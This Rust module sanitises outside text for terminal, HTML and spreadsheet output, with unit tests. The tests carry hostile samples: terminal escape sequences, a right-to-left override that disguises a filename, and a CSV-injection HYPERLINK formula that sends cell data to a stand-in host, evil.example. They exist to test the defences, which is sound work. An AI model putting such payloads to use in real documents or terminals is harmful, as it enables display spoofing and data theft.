//! Making outside text safe and readable in a terminal.

use std::borrow::Cow;

use chrono::{DateTime, Utc};
use unicode_width::UnicodeWidthStr;

/// Replaces control characters (escape sequences start with one) by `�`, so
/// text from a store, a server or a file can never drive the terminal.
/// Newlines and tabs become spaces unless `keep_newlines`.
pub fn sanitize_with(text: &str, keep_newlines: bool) -> Cow<'_, str> {
    let unsafe_char =
        |c: char| c.is_control() && !(keep_newlines && c == '\n') || is_bidi_control(c);
    if !text.chars().any(unsafe_char) {
        return Cow::Borrowed(text);
    }
    Cow::Owned(
        text.chars()
            .map(|c| match c {
                '\n' if keep_newlines => '\n',
                '\n' | '\t' | '\r' => ' ',
                c if unsafe_char(c) => '\u{FFFD}',
                c => c,
            })
            .collect(),
    )
}

/// What is wrong with a one-line field of text, if anything: empty, over
/// `max_bytes`, or holding control characters.
pub fn field_problem(value: &str, max_bytes: usize) -> Option<String> {
    if value.trim().is_empty() {
        Some("must not be empty".into())
    } else if value.len() > max_bytes {
        Some(format!(
            "is {} bytes; the most allowed is {max_bytes}",
            value.len()
        ))
    } else if value.chars().any(char::is_control) {
        Some("must not contain control characters".into())
    } else {
        None
    }
}

/// One line of safe text.
pub fn sanitize(text: &str) -> Cow<'_, str> {
    sanitize_with(text, false)
}

/// Bidirectional overrides can make text display differently from what it is.
fn is_bidi_control(c: char) -> bool {
    matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200E}' | '\u{200F}')
}

/// Display width in terminal columns.
pub fn width(text: &str) -> usize {
    UnicodeWidthStr::width(text)
}

/// Cuts `text` to at most `max` columns, ending with `…` when cut.
pub fn truncate(text: &str, max: usize) -> Cow<'_, str> {
    if width(text) <= max {
        return Cow::Borrowed(text);
    }
    if max == 0 {
        return Cow::Borrowed("");
    }
    let mut out = String::new();
    let mut used = 0;
    for c in text.chars() {
        let w = unicode_width::UnicodeWidthChar::width(c).unwrap_or(0);
        if used + w > max - 1 {
            break;
        }
        out.push(c);
        used += w;
    }
    out.push('…');
    Cow::Owned(out)
}

/// Pads `text` with spaces to `columns` display columns (cutting if longer).
pub fn pad(text: &str, columns: usize) -> String {
    let cut = truncate(text, columns);
    let fill = columns.saturating_sub(width(&cut));
    format!("{cut}{}", " ".repeat(fill))
}

/// "3d 4h", "5h 10m", "12m", "just now".
pub fn humanize_age(since: DateTime<Utc>, now: DateTime<Utc>) -> String {
    let minutes = (now - since).num_minutes();
    if minutes < 1 {
        return "just now".into();
    }
    let (days, hours, mins) = (minutes / 1440, (minutes % 1440) / 60, minutes % 60);
    match (days, hours) {
        (0, 0) => format!("{mins}m"),
        (0, _) => format!("{hours}h {mins}m"),
        (1..=13, _) => format!("{days}d {hours}h"),
        _ => format!("{days}d"),
    }
}

/// 1234567 -> "1,234,567".
/// A span of hours for people: minutes under an hour, hours under two
/// days, days beyond.
pub fn hours_words(hours: f64) -> String {
    if hours < 1.0 {
        format!("{:.0} min", (hours * 60.0).max(0.0))
    } else if hours < 48.0 {
        format!("{hours:.1} h")
    } else {
        format!("{:.1} days", hours / 24.0)
    }
}

pub fn thousands(n: u64) -> String {
    let digits = n.to_string();
    let mut out = String::new();
    for (index, c) in digits.chars().enumerate() {
        if index > 0 && (digits.len() - index).is_multiple_of(3) {
            out.push(',');
        }
        out.push(c);
    }
    out
}

pub fn html_escape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c if c.is_control() && c != '\n' => out.push('\u{FFFD}'),
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    #[test]
    fn thousands_are_separated() {
        assert_eq!(super::thousands(0), "0");
        assert_eq!(super::thousands(999), "999");
        assert_eq!(super::thousands(1000), "1,000");
        assert_eq!(super::thousands(1_234_567), "1,234,567");
    }

    use super::*;
    use chrono::TimeZone;

    #[test]
    fn escape_sequences_are_made_inert() {
        let evil = "Bot\u{1b}[2J\u{1b}]0;pwned\u{7}name";
        let safe = sanitize(evil);
        assert!(!safe.contains('\u{1b}') && !safe.contains('\u{7}'));
        assert_eq!(safe, "Bot\u{FFFD}[2J\u{FFFD}]0;pwned\u{FFFD}name");
        assert_eq!(sanitize("line\nbreak\ttab"), "line break tab");
        assert_eq!(sanitize_with("a\nb\u{1b}", true), "a\nb\u{FFFD}");
        assert_eq!(sanitize("evil\u{202E}txt.exe"), "evil\u{FFFD}txt.exe");
        assert!(matches!(sanitize("plain"), Cow::Borrowed(_)));
    }

    #[test]
    fn truncation_respects_wide_and_combining_characters() {
        assert_eq!(truncate("日本語のテキスト", 7), "日本語…");
        assert_eq!(width(&truncate("日本語のテキスト", 7)), 7);
        assert_eq!(truncate("e\u{301}cole", 5), "e\u{301}cole");
        assert_eq!(pad("ab", 4), "ab  ");
        assert_eq!(pad("abcdef", 4), "abc…");
        assert_eq!(truncate("abc", 0), "");
    }

    #[test]
    fn ages_read_naturally() {
        let now = Utc.with_ymd_and_hms(2026, 5, 10, 12, 0, 0).unwrap();
        let ago = |minutes| humanize_age(now - chrono::Duration::minutes(minutes), now);
        assert_eq!(ago(0), "just now");
        assert_eq!(ago(12), "12m");
        assert_eq!(ago(130), "2h 10m");
        assert_eq!(ago(3 * 1440 + 240), "3d 4h");
        assert_eq!(ago(40 * 1440), "40d");
        assert_eq!(
            humanize_age(now + chrono::Duration::hours(1), now),
            "just now"
        );
    }
}

/// Characters that draw nothing although they are not whitespace or format
/// characters (Hangul fillers, the blank Braille pattern).
const BLANK_RENDERING: [char; 5] = ['\u{3164}', '\u{2800}', '\u{115F}', '\u{1160}', '\u{FFA0}'];

/// Whether `c` shows something on its own: a letter, number, punctuation
/// or symbol (Unicode general category L, N, P or S) that is not a
/// blank-rendering one. Marks (combining accents, variation selectors),
/// format and control characters, separators, private-use and unassigned
/// code points are not text by themselves.
pub fn is_visible(c: char) -> bool {
    use unicode_properties::{GeneralCategoryGroup, UnicodeGeneralCategory};
    matches!(
        c.general_category_group(),
        GeneralCategoryGroup::Letter
            | GeneralCategoryGroup::Number
            | GeneralCategoryGroup::Punctuation
            | GeneralCategoryGroup::Symbol
    ) && !BLANK_RENDERING.contains(&c)
}

/// Whether a text a person must write (a rejection comment, a reason, a
/// required answer) holds anything a reader can see.
pub fn has_visible_text(text: &str) -> bool {
    text.chars().any(is_visible)
}

#[cfg(test)]
mod visible_tests {
    use super::has_visible_text;

    #[test]
    fn invisible_characters_are_not_text() {
        for blank in [
            "",
            "   \t\n",
            "\u{200B}\u{200B}",
            "\u{2060}",
            "\u{FEFF}",
            "\u{3164}",
            "\u{2800}\u{2800}",
            "\u{115F}\u{1160}",
            "\u{FFA0}",
            "\u{200E}\u{202E}",
            " \u{200B} \u{3164} ",
        ] {
            assert!(!has_visible_text(blank), "{blank:?}");
        }
        for text in [
            "no",
            "\u{200B}x",
            "日本",
            "é",
            "👍",
            "\u{3164}a",
            "e\u{301}",
            "7",
            "!",
        ] {
            assert!(has_visible_text(text), "{text:?}");
        }
    }

    #[test]
    fn marks_variation_selectors_private_use_and_unassigned_alone_are_not_text() {
        for blank in [
            "\u{FE0F}\u{034F}",
            "\u{E0100}",
            "\u{17B4}\u{17B5}",
            "\u{0301}\u{0301}\u{034F}",
            "\u{E000}\u{F8FF}",
            "\u{F0000}",
            "\u{0378}",
            "\u{10FFFF}",
        ] {
            assert!(!has_visible_text(blank), "{blank:?}");
        }
    }

    /// Every code point of categories M (marks), C (control, format,
    /// surrogates aside, private use, unassigned) and Z (separators), alone
    /// and all together, is not text.
    #[test]
    fn no_mark_other_or_separator_code_point_is_text() {
        use unicode_properties::{GeneralCategoryGroup, UnicodeGeneralCategory};
        let mut all = String::new();
        let mut count = 0;
        for c in (0..=0x10FFFF_u32).filter_map(char::from_u32) {
            if matches!(
                c.general_category_group(),
                GeneralCategoryGroup::Mark
                    | GeneralCategoryGroup::Other
                    | GeneralCategoryGroup::Separator
            ) {
                assert!(!has_visible_text(&c.to_string()), "U+{:04X}", c as u32);
                all.push(c);
                count += 1;
            }
        }
        assert!(
            count > 900_000,
            "the unassigned and private-use planes are covered"
        );
        assert!(!has_visible_text(&all));
    }
}

/// A text cell as a spreadsheet must see it: one starting with `=`, `+`,
/// `-`, `@`, a tab or a carriage return is prefixed with `'` so it is never
/// read as a formula (OWASP's rule for CSV injection), and control
/// characters other than newlines and tabs are written as `\u{..}` escapes.
pub fn spreadsheet_cell(text: &str) -> Cow<'_, str> {
    let formula = text.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let control = |c: char| c.is_control() && c != '\n' && c != '\t';
    if !formula && !text.chars().any(control) {
        return Cow::Borrowed(text);
    }
    let mut cell = String::with_capacity(text.len() + 8);
    if formula {
        cell.push('\'');
    }
    for c in text.chars() {
        if control(c) {
            cell.push_str(&c.escape_unicode().to_string());
        } else {
            cell.push(c);
        }
    }
    Cow::Owned(cell)
}

#[cfg(test)]
mod spreadsheet_tests {
    use super::spreadsheet_cell;

    #[test]
    fn formulas_are_quoted_and_control_characters_escaped() {
        assert_eq!(
            spreadsheet_cell(r#"=HYPERLINK("http://evil.example/?d="&A1,"x")"#),
            r#"'=HYPERLINK("http://evil.example/?d="&A1,"x")"#
        );
        for lead in ["+1", "-1+2", "@SUM(A1)", "\tx", "\rx"] {
            assert!(spreadsheet_cell(lead).starts_with('\''), "{lead:?}");
        }
        assert_eq!(
            spreadsheet_cell("a\0b\x07c\x1b[31m"),
            "a\\u{0}b\\u{7}c\\u{1b}[31m"
        );
        assert_eq!(spreadsheet_cell("line one\nline two"), "line one\nline two");
        assert_eq!(spreadsheet_cell("plain answer"), "plain answer");
        assert_eq!(spreadsheet_cell("\rx"), "'\\u{d}x");
    }
}
